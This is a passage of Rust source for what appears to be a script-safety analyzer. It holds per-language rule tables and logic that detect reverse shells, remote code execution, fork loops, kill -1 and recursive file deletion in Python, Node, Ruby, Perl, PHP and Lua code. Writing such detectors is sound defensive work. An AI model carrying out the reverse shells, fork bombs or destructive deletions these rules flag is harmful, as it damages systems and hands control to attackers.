        ],
        Any,
        &[Eval(Code::First)],
    ),
    rule(&["Script"], On(&["vm"]), &[Eval(Code::First)]),
    rule(&["kill"], On(&["process"]), &[Kill(Pids::First)]),
    rule(
        &["connect", "createConnection", "Socket"],
        On(&["net", "tls"]),
        &[Connect],
    ),
    rule(&["pipe"], Method, &[Dup]),
    rule(
        &["get", "request"],
        On(&["http", "https", "axios", "got", "needle"]),
        &[Fetch],
    ),
    rule(&["fetch", "axios", "got"], Bare, &[Fetch]),
];

const RUBY: &[Rule] = &[
    rule(
        &[
            "rm_rf",
            "rm_r",
            "remove_dir",
            "remove_entry",
            "remove_entry_secure",
        ],
        BareOrOn(&["FileUtils"]),
        &[Remove(Recursion::Yes, Target::Each)],
    ),
    rule(
        &["rmtree"],
        On(&["FileUtils"]),
        &[Remove(Recursion::Yes, Target::Each)],
    ),
    rule(
        &["rmtree"],
        Method,
        &[Remove(Recursion::Yes, Target::Receiver)],
    ),
    rule(
        &[
            "rm",
            "rm_f",
            "remove",
            "remove_file",
            "safe_unlink",
            "rmdir",
        ],
        On(&["FileUtils"]),
        &[Remove(Recursion::No, Target::Each)],
    ),
    rule(
        &["delete", "unlink"],
        On(&["File"]),
        &[Remove(Recursion::No, Target::Each)],
    ),
    rule(
        &["delete", "unlink", "rmdir"],
        On(&["Dir"]),
        &[Remove(Recursion::No, Target::Arg(0))],
    ),
    rule(
        &["write", "binwrite"],
        On(&["File", "IO"]),
        &[Write(Target::Arg(0), Mode::Always)],
    ),
    rule(
        &["open", "new"],
        On(&["File"]),
        &[Write(Target::Arg(0), Mode::Arg(1))],
    ),
    rule(
        &["open"],
        BareOrOn(&["Kernel"]),
        &[Write(Target::Arg(0), Mode::Arg(1)), PipeOpen, FetchIfUrl],
    ),
    rule(&["open"], On(&["URI", "OpenURI"]), &[Fetch]),
    rule(
        &["system", "exec", "spawn"],
        BareOrOn(&["Kernel", "Process"]),
        &[Shell(Argv::From(0))],
    ),
    rule(&["popen"], On(&["IO"]), &[Shell(Argv::Nth(0))]),
    rule(
        &[
            "capture2",
            "capture2e",
            "capture3",
            "popen2",
            "popen2e",
            "popen3",
            "pipeline",
            "pipeline_r",
            "pipeline_w",
            "pipeline_rw",
        ],
        On(&["Open3"]),
        &[Shell(Argv::From(0))],
    ),
    rule(
        &["eval", "instance_eval", "class_eval", "module_eval"],
        Any,
        &[Eval(Code::First)],
    ),
    rule(&["kill"], On(&["Process"]), &[Kill(Pids::Rest)]),
    rule(&["fork"], BareOrOn(&["Process", "Kernel"]), &[Fork]),
    rule(&["reopen"], Method, &[Dup]),
    rule(
        &["new", "open"],
        On(&["TCPSocket", "SSLSocket"]),
        &[Connect],
    ),
    rule(&["tcp"], On(&["Socket"]), &[Connect]),
    rule(
        &["get", "get_response", "post", "start", "get_print"],
        On(&["HTTP"]),
        &[Fetch],
    ),
    rule(
        &["get", "post"],
        On(&["HTTParty", "Faraday", "RestClient"]),
        &[Fetch],
    ),
];

const PERL: &[Rule] = &[
    rule(
        &["unlink", "rmdir"],
        Bare,
        &[Remove(Recursion::No, Target::Each)],
    ),
    rule(
        &["rmtree", "remove_tree"],
        BareOrOn(&["Path"]),
        &[Remove(Recursion::Yes, Target::Each)],
    ),
    rule(&["open"], Bare, &[PerlOpen]),
    rule(&["sysopen"], Bare, &[Write(Target::Arg(1), Mode::Flags)]),
    rule(
        &["copy", "move", "cp", "mv"],
        BareOrOn(&["Copy"]),
        &[Write(Target::Arg(1), Mode::Always)],
    ),
    rule(&["system", "exec"], Bare, &[Shell(Argv::From(0))]),
    rule(&["eval"], Bare, &[Eval(Code::First)]),
    rule(&["kill"], Bare, &[Kill(Pids::Rest)]),
    rule(&["fork"], Bare, &[Fork]),
    rule(&["connect"], Bare, &[Connect]),
    rule(
        &["new"],
        On(&["INET", "INET6", "IP", "SSL", "Socket"]),
        &[Connect],
    ),
    rule(&["get", "getstore", "getprint", "mirror"], Bare, &[Fetch]),
    rule(
        &["new", "get", "request"],
        On(&["UserAgent", "Tiny"]),
        &[Fetch],
    ),
];

const PHP: &[Rule] = &[
    rule(
        &["unlink", "rmdir"],
        Bare,
        &[Remove(Recursion::No, Target::Arg(0))],
    ),
    rule(
        &["file_put_contents"],
        Bare,
        &[Write(Target::Arg(0), Mode::Always)],
    ),
    rule(
        &["fopen"],
        Bare,
        &[Write(Target::Arg(0), Mode::Arg(1)), FetchIfUrl],
    ),
    rule(
        &["copy", "rename"],
        Bare,
        &[Write(Target::Arg(1), Mode::Always), FetchIfUrl],
    ),
    rule(
        &["file_get_contents", "file", "readfile"],
        Bare,
        &[FetchIfUrl],
    ),
    rule(&["curl_exec"], Bare, &[Fetch]),
    rule(
        &[
            "exec",
            "system",
            "shell_exec",
            "passthru",
            "popen",
            "proc_open",
        ],
        Bare,
        &[Shell(Argv::Nth(0))],
    ),
    rule(&["pcntl_exec"], Bare, &[Shell(Argv::FileAndList)]),
    rule(&["eval", "assert"], Bare, &[Eval(Code::First)]),
    rule(&["create_function"], Bare, &[Eval(Code::Last)]),
    rule(
        &["include", "include_once", "require", "require_once"],
        Bare,
        &[Include],
    ),
    rule(&["posix_kill"], Bare, &[Kill(Pids::First)]),
    rule(&["pcntl_fork"], Bare, &[Fork]),
    rule(
        &[
            "fsockopen",
            "pfsockopen",
            "stream_socket_client",
            "socket_connect",
        ],
        Bare,
        &[Connect],
    ),
];

const LUA: &[Rule] = &[
    rule(
        &["remove"],
        On(&["os"]),
        &[Remove(Recursion::No, Target::Arg(0))],
    ),
    rule(
        &["rename"],
        On(&["os"]),
        &[Write(Target::Arg(1), Mode::Always)],
    ),
    rule(
        &["open"],
        On(&["io"]),
        &[Write(Target::Arg(0), Mode::Arg(1))],
    ),
    rule(&["execute"], On(&["os"]), &[Shell(Argv::Nth(0))]),
    rule(&["popen"], On(&["io"]), &[Shell(Argv::Nth(0))]),
    rule(&["load", "loadstring"], Bare, &[Eval(Code::First)]),
    rule(&["kill"], Any, &[Kill(Pids::First)]),
    rule(&["fork"], Any, &[Fork]),
    rule(&["connect", "tcp"], Any, &[MaybeConnect]),
    rule(&["request"], On(&["http", "https"]), &[Fetch]),
];

fn rules(lang: Lang) -> &'static [Rule] {
    match lang {
        Lang::Python => PYTHON,
        Lang::Node => NODE,
        Lang::Ruby => RUBY,
        Lang::Perl => PERL,
        Lang::Php => PHP,
        Lang::Lua => LUA,
    }
}

/// Compares API names; PHP's functions are case-insensitive.
fn same_name(lang: Lang, a: &str, b: &str) -> bool {
    if lang == Lang::Php {
        a.eq_ignore_ascii_case(b)
    } else {
        a == b
    }
}

fn is_url(text: &str) -> bool {
    let lower = text.get(..8).unwrap_or(text).to_ascii_lowercase();
    ["http://", "https://", "ftp://"]
        .iter()
        .any(|scheme| lower.starts_with(scheme))
}

/// Whether a command runs a shell: `/bin/sh -i`, `bash -c …`.
fn names_shell(command: &str) -> bool {
    command
        .split(|c: char| c.is_whitespace() || ";|&<>()'\"`".contains(c))
        .any(|word| SHELLS.contains(&word.rsplit('/').next().unwrap_or(word)))
}

/// A word for a command line, quoted when the shell would read it otherwise.
fn shell_word(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_alphanumeric() || "_-./~=:,+@%^".contains(c));
    if plain {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// Words that end an argument list written without brackets (`system "x" or die`).
fn ends_bare_arguments(word: &str) -> bool {
    matches!(
        word,
        "if" | "unless"
            | "while"
            | "until"
            | "or"
            | "and"
            | "do"
            | "then"
            | "end"
            | "for"
            | "foreach"
            | "rescue"
            | "else"
            | "elsif"
            | "x"
            | "eq"
            | "ne"
            | "lt"
            | "gt"
            | "le"
            | "ge"
            | "cmp"
    )
}

// ---------------------------------------------------------------------------------------------
// Calls
// ---------------------------------------------------------------------------------------------

/// A call found in the code.
#[derive(Debug)]
struct Call {
    /// The token of the function's name.
    at: usize,
    /// The function's name as its module defines it (`rmtree` for an alias `nuke`).
    name: String,
    /// The module or class it is called on, through import aliases: `os` in `os.remove`,
    /// `fs` in `require('fs').rmSync`, `shutil` for an imported `rmtree`.
    qual: Option<String>,
    /// The expression it is a method of: `Path("x")` in `Path("x").unlink()`.
    receiver: Option<Range<usize>>,
    args: Vec<Range<usize>>,
    /// Keyword arguments: `mode="w"`, `chdir: "/"`.
    kwargs: Vec<(String, Range<usize>)>,
}

/// A command the code runs.
type Launch = Option<String>;

/// Walks the tokens, matches calls against the API tables and gathers facts.
struct Inspector<'s, 'a> {
    src: &'s Source<'a>,
    imports: Imports,
    facts: CodeFacts,
    /// Tokens that fork.
    forks: Vec<usize>,
    /// Commands run: the command line, or `None` when it is built at run time.
    launches: Vec<Launch>,
    dup: bool,
    connect: bool,
    maybe_connect: bool,
    fetch: bool,
    /// Evaluates code that is not a literal.
    dynamic_eval: bool,
    remote_include: bool,
}

impl<'s, 'a> Inspector<'s, 'a> {
    fn new(src: &'s Source<'a>) -> Self {
        Inspector {
            src,
            imports: Imports::collect(src),
            facts: CodeFacts::default(),
            forks: Vec::new(),
            launches: Vec::new(),
            dup: false,
            connect: false,
            maybe_connect: false,
            fetch: false,
            dynamic_eval: false,
            remote_include: false,
        }
    }

    fn run(mut self) -> CodeFacts {
        for i in 0..self.src.len() {
            match self.src.tokens[i].kind {
                Kind::Str(lit) if lit.role == Role::Command => {
                    let command = self.src.render(lit, 0);
                    self.launch(command.any_text().map(str::to_string));
                }
                Kind::Ident => self.call(i),
                _ => {}
            }
        }
        self.finish()
    }

    fn finish(mut self) -> CodeFacts {
        let socket = self.connect || (self.maybe_connect && self.mentions_socket());
        let shell = self
            .launches
            .iter()
            .any(|launch| launch.as_deref().is_none_or(names_shell));
        self.facts.reverse_shell = socket && (shell || (self.dup && !self.launches.is_empty()));
        self.facts.remote_exec = self.remote_include || (self.dynamic_eval && self.fetch);
        self.facts.fork_loop = !self.forks.is_empty() && LoopScan::new(self.src).run(&self.forks);
        let mut seen = HashSet::new();
        self.facts
            .deletes
            .retain(|d| seen.insert((d.target.clone(), d.recursive)));
        let mut seen = HashSet::new();
        self.facts.writes.retain(|w| seen.insert(w.clone()));
        let mut seen = HashSet::new();
        self.facts.shell_commands.retain(|c| seen.insert(c.clone()));
        self.facts
    }

    /// The code uses a socket module (`import socket`, `require("socket")`).
    fn mentions_socket(&self) -> bool {
        (0..self.src.len()).any(|i| {
            self.src.ident(i) == Some("socket")
                || self.src.lit(i).is_some_and(|lit| {
                    self.src
                        .code
                        .get(lit.start..lit.end)
                        .is_some_and(|s| s.starts_with("socket"))
                })
        })
    }

    fn call(&mut self, i: usize) {
        let Some(word) = self.src.ident(i) else {
            return;
        };
        let name = match self.imports.functions.get(word) {
            Some((_, name)) if !self.src.follows_member_op(i) => name.as_str(),
            _ => word,
        };
        let lang = self.src.lang;
        let candidates = rules(lang)
            .iter()
            .any(|r| r.names.iter().any(|n| same_name(lang, n, name)));
        if !candidates {
            return;
        }
        let Some(call) = self.call_at(i) else {
            return;
        };
        let matched = rules(lang).iter().find(|r| {
            r.names.iter().any(|n| same_name(lang, n, &call.name)) && self.in_scope(r.scope, &call)
        });
        if let Some(rule) = matched {
            for &effect in rule.effects {
                self.apply(effect, &call);
            }
        }
    }

    fn in_scope(&self, scope: Scope, call: &Call) -> bool {
        let lang = self.src.lang;
        let bare = call.receiver.is_none() && call.qual.is_none();
        let on = |modules: &[&str]| {
            let qualified = call
                .qual
                .as_deref()
                .is_some_and(|q| modules.iter().any(|m| same_name(lang, m, q)));
            let star = bare
                && self
                    .imports
                    .everything
                    .iter()
                    .any(|m| modules.contains(&m.as_str()));
            qualified || star
        };
        match scope {
            Bare => bare,
            On(modules) => on(modules),
            BareOrOn(modules) => bare || on(modules),
            Any => true,
            Method => call.receiver.is_some(),
        }
    }

    /// The call whose function name is token `i`, if it is one.
    fn call_at(&self, i: usize) -> Option<Call> {
        let src = self.src;
        let word = src.ident(i)?;
        let defined = i > 0
            && matches!(
                src.ident(i - 1),
                Some("def" | "function" | "sub" | "fn" | "class" | "module")
            );
        if defined || src.is_variable(i) || src.is_member_op(i + 1) || src.is_op(i + 1, "=>") {
            return None;
        }
        if src.lang == Lang::Ruby && src.is_op(i + 1, ":") && src.adjacent(i, i + 1) {
            return None; // a label: `fork: 1`
        }
        let span = self.arguments(i, word)?;
        let (receiver, qual) = self.qualifier(i);
        let (name, qual) = match (&receiver, self.imports.functions.get(word)) {
            (None, Some((module, name))) => (name.clone(), Some(module.clone())),
            _ => (word.to_string(), qual),
        };
        let mut args = Vec::new();
        let mut kwargs = Vec::new();
        for part in src.split_list(span) {
            match self.keyword(&part) {
                Some(key) => kwargs.push((key.to_string(), part.start + 2..part.end)),
                None => args.push(part),
            }
        }
        Some(Call {
            at: i,
            name,
            qual,
            receiver,
            args,
            kwargs,
        })
    }

    /// The name of a keyword argument (`mode="w"`, `chdir: "/"`).
    fn keyword(&self, part: &Range<usize>) -> Option<&'a str> {
        let src = self.src;
        let name = src.ident(part.start)?;
        let marker = match src.lang {
            Lang::Python => src.is_op(part.start + 1, "="),
            Lang::Ruby | Lang::Php => {
                src.is_op(part.start + 1, ":") && src.adjacent(part.start, part.start + 1)
            }
            _ => false,
        };
        (marker && part.len() > 2).then_some(name)
    }

    /// The argument tokens of a call to the name at `i`; `None` if it is not called.
    fn arguments(&self, i: usize, word: &str) -> Option<Range<usize>> {
        let src = self.src;
        let next = i + 1;
        if src.is_op(next, "(") {
            return Some(next + 1..src.close_of(next));
        }
        match src.lang {
            Lang::Perl | Lang::Ruby => Some(next..self.bare_arguments_end(next)),
            Lang::Php
                if ["include", "include_once", "require", "require_once"]
                    .iter()
                    .any(|w| w.eq_ignore_ascii_case(word)) =>
            {
                Some(next..self.bare_arguments_end(next))
            }
            Lang::Lua if src.lit(next).is_some() => Some(next..next + 1),
            Lang::Lua if src.is_op(next, "{") => Some(next..src.close_of(next) + 1),
            _ => None,
        }
    }

    /// Whether token `j` can start an argument written without brackets.
    fn starts_bare_argument(&self, j: usize) -> bool {
        let src = self.src;
        let Some(tok) = src.tokens.get(j) else {
            return false;
        };
        if tok.nl_before && src.lang != Lang::Perl {
            return false;
        }
        match tok.kind {
            Kind::Str(_) | Kind::Number => true,
            Kind::Regex => false,
            Kind::Ident => !ends_bare_arguments(src.text(j)),
            Kind::Op => match src.text(j) {
                "$" | "@" => true,
                "\\" => src.lang == Lang::Perl,
                "-" | ":" => {
                    src.adjacent(j, j + 1) && src.kind(j + 1).is_some_and(|k| k != Kind::Op)
                }
                "[" => j > 0 && !src.adjacent(j - 1, j),
                _ => false,
            },
        }
    }

    /// Where an argument list without brackets, starting at `from`, ends.
    fn bare_arguments_end(&self, from: usize) -> usize {
        let src = self.src;
        if !self.starts_bare_argument(from) {
            return from;
        }
        let limit = (from + MAX_BARE_ARGUMENTS).min(src.len());
        let mut j = from;
        while j < limit {
            let tok = &src.tokens[j];
            if j > from && tok.nl_before && src.lang != Lang::Perl {
                break;
            }
            match (tok.kind, src.text(j)) {
                (Kind::Op, ";" | ")" | "]" | "}" | "||" | "&&" | "?") => break,
                (Kind::Op, "{") if src.lang == Lang::Ruby => break,
                (Kind::Op, "(" | "[" | "{") => {
                    j = src.close_of(j) + 1;
                    continue;
                }
                (Kind::Ident, word) if ends_bare_arguments(word) && !src.follows_member_op(j) => {
                    break;
                }
                _ => {}
            }
            j += 1;
        }
        j.min(limit)
    }

    /// The expression a method is called on, and the module that names, if any.
    fn qualifier(&self, i: usize) -> (Option<Range<usize>>, Option<String>) {
        let src = self.src;
        if i < 2 || !src.is_member_op(i - 1) {
            return (None, None);
        }
        let before = i - 2;
        let qual = match src.kind(before) {
            Some(Kind::Ident) => Some(self.imports.resolve(src.text(before))),
            Some(Kind::Op) if src.is_op(before, ")") => self.required_module(before),
            _ => None,
        };
        (Some(self.receiver_start(before)..i - 1), qual)
    }

    /// The module named by a call ending at `close`: `require('fs')`, `__import__('os')`.
    fn required_module(&self, close: usize) -> Option<String> {
        let src = self.src;
        let open = src.partner.get(close).copied().flatten()?;
        let loader = src.ident(open.checked_sub(1)?)?;
        if !matches!(loader, "require" | "__import__" | "import_module") || close != open + 2 {
            return None;
        }
        let text = src.render(src.lit(open + 1)?, MAX_DEPTH);
        Some(module_name(text.exact_text()?))
    }

    /// Where the expression ending at token `end` begins: walks back over names, calls,
    /// subscripts and attribute accesses.
    fn receiver_start(&self, end: usize) -> usize {
        let src = self.src;
        let mut j = end;
        for _ in 0..MAX_LOOKBACK {
            if matches!(src.op(j), Some(")" | "]" | "}")) {
                match src.partner.get(j).copied().flatten() {
                    Some(open) => j = open,
                    None => break,
                }
                if j > 0 && src.kind(j - 1) == Some(Kind::Ident) {
                    j -= 1;
                }
            }
            if j > 0 && src.is_variable(j) {
                j -= 1;
            }
            if j >= 2 && src.is_member_op(j - 1) {
                j -= 2;
                continue;
            }
            break;
        }
        j
    }

    fn apply(&mut self, effect: Effect, call: &Call) {
        match effect {
            Remove(recursion, target) => {
                let recursive = match recursion {
                    Recursion::Yes => true,
                    Recursion::No => false,
                    Recursion::Option => self.src.has_recursive_option(&call.args),
                };
                for target in self.targets(call, target) {
                    self.facts.deletes.push(Delete { target, recursive });
                }
            }
            Write(target, mode) => {
                if self.opens_for_writing(call, mode) {
                    let targets = self.targets(call, target);
                    self.facts.writes.extend(targets);
                }
            }
            Shell(argv) => {
                if let Some(launch) = self.command(call, argv) {
                    self.launch(launch);
                }
            }
            PipeOpen => {
                let first = self.arg_value(call, 0);
                if let Some(command) = first.any_text().and_then(|t| t.strip_prefix('|')) {
                    self.launch(Some(command.trim().to_string()));
                }
            }
            PerlOpen => self.perl_open(call),
            Eval(code) => {
                let arg = match code {
                    Code::First => call.args.first(),
                    Code::Last => call.args.last(),
                };
                if let Some(r) = arg {
                    if self.src.value(r.clone(), 0).exact_text().is_none() {
                        self.dynamic_eval = true;
                    }
                }
            }
            Include => match self.arg_value(call, 0) {
                Value::Text { text, .. } => self.remote_include |= is_url(&text),
                _ if call.args.is_empty() => {}
                _ => self.dynamic_eval = true,
            },
            Kill(pids) => {
                let candidates = match pids {
                    Pids::First => call.args.get(..1).unwrap_or(&[]),
                    Pids::Rest => call.args.get(1..).unwrap_or(&[]),
                };
                if candidates.iter().any(|r| self.src.is_minus_one(r)) {
                    self.facts.kills_all = true;
                }
            }
            Fork => self.forks.push(call.at),
            Dup => self.dup = true,
            Connect => self.connect = true,
            MaybeConnect => self.maybe_connect = true,
            Fetch => self.fetch = true,
            FetchIfUrl => {
                if self.arg_value(call, 0).any_text().is_some_and(is_url) {
                    self.fetch = true;
                }
            }
        }
    }

    fn arg_value(&self, call: &Call, n: usize) -> Value {
        call.args
            .get(n)
            .map_or(Value::Unknown, |r| self.src.value(r.clone(), 0))
    }

    fn launch(&mut self, command: Launch) {
        if let Some(command) = &command {
            self.facts.shell_commands.push(command.clone());
        }
        self.launches.push(command);
    }

    /// The paths a call names.
    fn targets(&self, call: &Call, target: Target) -> Vec<String> {
        let src = self.src;
        match target {
            Target::Arg(n) => call
                .args
                .get(n)
                .map(|r| vec![src.value(r.clone(), 0).path()])
                .unwrap_or_default(),
            Target::Receiver => {
                let receiver = call.receiver.clone().unwrap_or(0..0);
                vec![src.value(receiver, 0).path()]
            }
            Target::Each if call.args.is_empty() => {
                // Perl's `unlink` alone deletes `$_`.
                if src.lang == Lang::Perl {
                    vec!["?".to_string()]
                } else {
                    Vec::new()
                }
            }
            Target::Each => {
                let mut paths = Vec::new();
                for r in &call.args {
                    // Flags (`rmtree($d, 0, 1)`) and option hashes are no targets.
                    if src.kind(r.start) == Some(Kind::Number) || src.is_op(r.start, "{") {
                        continue;
                    }
                    match src.value(r.clone(), 0) {
                        Value::List(items) => paths.extend(items.iter().map(Value::path)),
                        value => paths.push(value.path()),
                    }
                }
                paths
            }
        }
    }

    /// Whether an open-like call writes, by its mode argument or flags.
    fn opens_for_writing(&self, call: &Call, mode: Mode) -> bool {
        let src = self.src;
        let write_flag = |r: Range<usize>| {
            src.top_level(r).any(|j| {
                src.ident(j).is_some_and(|w| {
                    let flag = w.strip_prefix("O_").unwrap_or(w);
                    matches!(flag, "WRONLY" | "RDWR" | "CREAT" | "TRUNC" | "APPEND")
                })
            })
        };
        match mode {
            Mode::Always => true,
            Mode::Flags => call.args.iter().any(|r| write_flag(r.clone())),
            Mode::Arg(n) => {
                let keyword = call
                    .kwargs
                    .iter()
                    .find(|(k, _)| matches!(k.as_str(), "mode" | "flags" | "flag"))
                    .map(|(_, r)| r.clone());
                let Some(r) = call.args.get(n).cloned().or(keyword) else {
                    return false;
                };
                if write_flag(r.clone()) {
                    return true;
                }
                src.value(r, 0).exact_text().is_some_and(|mode| {
                    let mode = mode.split(':').next().unwrap_or("");
                    mode.contains(['w', 'a', 'x', 'c', '+'])
                })
            }
        }
    }

    /// The command line a launch runs; `Some(None)` when it is built at run time, `None` when
    /// the call names no command.
    fn command(&self, call: &Call, argv: Argv) -> Option<Launch> {
        let src = self.src;
        let words: Vec<Range<usize>> = match argv {
            Argv::Nth(n) => return Some(self.command_string(call.args.get(n)?.clone())),
            Argv::From(n) => call
                .args
                .get(n..)?
                .iter()
                .filter(|r| !self.is_options(r))
                .cloned()
                .collect(),
            Argv::FileAndList => {
                let file = call.args.first()?.clone();
                match call.args.get(1) {
                    Some(list)
                        if src.is_op(list.start, "[") || src.ident(list.start) == Some("array") =>
                    {
                        vec![file, list.clone()]
                    }
                    _ => vec![file],
                }
            }
        };
        match words.as_slice() {
            [] => None,
            [one] => Some(self.command_string(one.clone())),
            many => Some(self.join_words(many.iter().map(|r| src.value(r.clone(), 0)))),
        }
    }

    /// A command given as one argument: a shell string, or a list of words.
    fn command_string(&self, r: Range<usize>) -> Launch {
        match self.src.value(r, 0) {
            Value::Text { text, .. } => Some(text),
            list @ Value::List(_) => self.join_words(std::iter::once(list)),
            _ => None,
        }
    }

    /// A command line from words (lists are spread), quoted for the shell.
    fn join_words(&self, values: impl Iterator<Item = Value>) -> Launch {
        let mut words = Vec::new();
        for value in values {
            match value {
                Value::List(items) => words.extend(items),
                other => words.push(other),
            }
        }
        if !words.iter().any(|w| matches!(w, Value::Text { .. })) {
            return None;
        }
        let line: Vec<String> = words
            .iter()
            .map(|w| w.any_text().map_or_else(|| "?".to_string(), shell_word))
            .collect();
        Some(line.join(" "))
    }

    /// An options hash or environment argument (`{"A" => "1"}`, `key => value`).
    fn is_options(&self, r: &Range<usize>) -> bool {
        let src = self.src;
        src.is_op(r.start, "{") || src.top_level(r.clone()).any(|j| src.is_op(j, "=>"))
    }

    /// Perl's `open`: two-argument (`open(F, ">file")`, `open(F, "cmd |")`) or three-argument
    /// (`open(my $f, '>>', $path)`, `open(my $p, '-|', 'cmd')`) forms.
    fn perl_open(&mut self, call: &Call) {
        let Some(Value::Text { text, partial }) =
            call.args.get(1).map(|r| self.src.value(r.clone(), 0))
        else {
            return;
        };
        let spec = text.trim();
        if call.args.len() == 2 {
            if let Some(command) = spec.strip_prefix('|').or_else(|| spec.strip_suffix('|')) {
                self.launch(Some(command.trim().to_string()));
            } else if spec.starts_with(">&") || spec.starts_with("<&") || spec.starts_with("+<&") {
                self.dup = true;
            } else if let Some(path) = [">>", "+>", "+<", ">"]
                .iter()
                .find_map(|m| spec.strip_prefix(m))
            {
                let path = path.trim();
                let known = !partial && !path.is_empty();
                self.facts.writes.push(if known {
                    path.to_string()
                } else {
                    "?".to_string()
                });
            }
            return;
        }
        let mode = spec.split(':').next().unwrap_or("").trim();
        match mode {
            "-|" | "|-" => {
                if let Some(launch) = self.command(call, Argv::From(2)) {
                    self.launch(launch);
                }
            }
            m if m.contains('&') => self.dup = true,
            ">" | ">>" | "+<" | "+>" | "+>>" => {
                let targets = self.targets(call, Target::Arg(2));
                self.facts.writes.extend(targets);
            }
            _ => {}
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Loops: is a fork inside one?
// ---------------------------------------------------------------------------------------------

/// What closes a block.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Closer {
    Root,
    Paren,
    Bracket,
    Brace,
    /// Ruby's and Lua's `end`.
    End,
    /// Lua's `repeat … until`.
    Until,
    /// Python: a line indented no deeper than this column.
    Dedent(usize),
}

/// The statement being read in a block.
#[derive(Debug, Clone, Copy, Default)]
struct Stmt {
    /// Tokens so far.
    len: usize,
    /// The column of its first token.
    indent: usize,
    /// A loop keyword appeared (`while`, `for`, or a modifier as in `fork while fork`).
    loop_kw: bool,
    fork: bool,
}

#[derive(Debug, Clone, Copy)]
struct Frame {
    closer: Closer,
    /// The block is a loop's body.
    is_loop: bool,
    /// An enclosing block or statement loops.
    inherited: bool,
    /// A `while`/`for` whose optional `do` has not been seen yet.
    pending_do: bool,
    stmt: Stmt,
}

impl Frame {
    fn new(closer: Closer, is_loop: bool, inherited: bool) -> Frame {
        Frame {
            closer,
            is_loop,
            inherited,
            pending_do: false,
            stmt: Stmt::default(),
        }
    }

    fn in_loop(&self) -> bool {
        self.inherited || self.is_loop || self.stmt.loop_kw
    }
}

/// Loop keywords that make the statement they are in, and a block it opens, a loop.
fn loop_keyword(lang: Lang, word: &str) -> bool {
    match lang {
        Lang::Python => matches!(word, "while" | "for"),
        Lang::Perl => matches!(
            word,
            "while" | "until" | "for" | "foreach" | "do" | "map" | "grep"
        ),
        Lang::Node => matches!(word, "while" | "for" | "do"),
        Lang::Php => matches!(word, "while" | "for" | "foreach" | "do"),
        Lang::Ruby | Lang::Lua => false,
    }
}

/// Methods that call their block or callback repeatedly.
fn loop_method(lang: Lang, word: &str) -> bool {
    match lang {
        Lang::Node => matches!(
            word,
            "forEach" | "map" | "setInterval" | "every" | "some" | "filter" | "reduce"
        ),
        Lang::Php => matches!(word, "array_map" | "array_walk"),
        Lang::Ruby => matches!(
            word,
            "loop"
                | "times"
                | "each"
                | "upto"
                | "downto"
                | "step"
                | "cycle"
                | "each_with_index"
                | "map"
                | "each_line"
                | "each_char"
        ),
        Lang::Python | Lang::Perl | Lang::Lua => false,
    }
}

/// Follows block structure through the tokens to see whether a fork runs in a loop.
struct LoopScan<'s, 'a> {
    src: &'s Source<'a>,
    frames: Vec<Frame>,
    found: bool,
}

impl<'s, 'a> LoopScan<'s, 'a> {
    fn new(src: &'s Source<'a>) -> Self {
        LoopScan {
            src,
            frames: vec![Frame::new(Closer::Root, false, false)],
            found: false,
        }
    }

    /// Whether one of the tokens in `forks` (ascending) runs in a loop.
    fn run(mut self, forks: &[usize]) -> bool {
        let mut forks = forks.iter().copied().peekable();
        for i in 0..self.src.len() {
            self.line_break(i);
            let tok = self.src.tokens[i];
            let top = self.top();
            if top.stmt.len == 0 {
                top.stmt.indent = tok.col;
            }
            top.stmt.len += 1;
            if forks.next_if_eq(&i).is_some() {
                self.fork();
            }
            self.structure(i);
            if self.found {
                return true;
            }
        }
        while self.frames.len() > 1 {
            self.pop();
        }
        self.end_statement();
        self.found
    }

    fn top(&mut self) -> &mut Frame {
        if self.frames.is_empty() {
            self.frames.push(Frame::new(Closer::Root, false, false));
        }
        let last = self.frames.len() - 1;
        &mut self.frames[last]
    }

    fn fork(&mut self) {
        let top = self.top();
        if top.in_loop() {
            self.found = true;
        } else {
            top.stmt.fork = true;
        }
    }

    fn push(&mut self, closer: Closer, is_loop: bool) {
        let inherited = self.top().in_loop();
        self.frames.push(Frame::new(closer, is_loop, inherited));
    }

    fn pop(&mut self) {
        if self.frames.len() <= 1 {
            return;
        }
        let Some(frame) = self.frames.pop() else {
            return;
        };
        self.check(frame.stmt);
        // A fork inside brackets or `begin … end` belongs to the statement around them.
        if frame.stmt.fork && !matches!(frame.closer, Closer::Brace | Closer::Dedent(_)) {
            self.top().stmt.fork = true;
        }
    }

    /// Closes the innermost open block of `kind`, if one is open nearby.
    fn close(&mut self, kind: Closer) {
        let open = self
            .frames
            .iter()
            .enumerate()
            .rev()
            .take(MAX_LOOKBACK)
            .find(|(_, f)| f.closer == kind)
            .map(|(at, _)| at);
        if let Some(at) = open.filter(|&at| at > 0) {
            while self.frames.len() > at {
                self.pop();
            }
        }
    }

    fn check(&mut self, stmt: Stmt) {
        if stmt.fork && stmt.loop_kw {
            self.found = true;
        }
    }

    fn end_statement(&mut self) {
        let stmt = self.top().stmt;
        self.check(stmt);
        let top = self.top();
        top.stmt = Stmt::default();
        top.pending_do = false;
    }

    /// Line breaks end statements in Ruby and open or close indented blocks in Python.
    fn line_break(&mut self, i: usize) {
        if !self.src.tokens[i].nl_before {
            return;
        }
        match self.src.lang {
            Lang::Python => self.python_line(i),
            Lang::Ruby => {
                let holds_statements = matches!(
                    self.top().closer,
                    Closer::Root | Closer::Brace | Closer::End
                );
                let continued = i > 0
                    && matches!(self.src.op(i - 1), Some(op) if !matches!(op, ")" | "]" | "}"))
                    || self.src.is_member_op(i);
                if holds_statements && !continued {
                    self.end_statement();
                }
            }
            _ => {}
        }
    }

    fn python_line(&mut self, i: usize) {
        if !matches!(self.top().closer, Closer::Root | Closer::Dedent(_)) {
            return; // inside brackets, lines continue
        }
        let header = i > 0 && self.src.is_op(i - 1, ":");
        let Stmt {
            loop_kw, indent, ..
        } = self.top().stmt;
        self.end_statement();
        if header {
            self.push(Closer::Dedent(indent), loop_kw);
        }
        let col = self.src.tokens[i].col;
        while let Closer::Dedent(block) = self.top().closer {
            if col > block {
                break;
            }
            self.pop();
        }
    }

    fn structure(&mut self, i: usize) {
        let src = self.src;
        let lang = src.lang;
        let text = src.text(i);
        match src.tokens[i].kind {
            Kind::Op => match text {
                "(" => self.push(Closer::Paren, false),
                "[" => self.push(Closer::Bracket, false),
                "{" => {
                    let is_loop = match lang {
                        Lang::Ruby => {
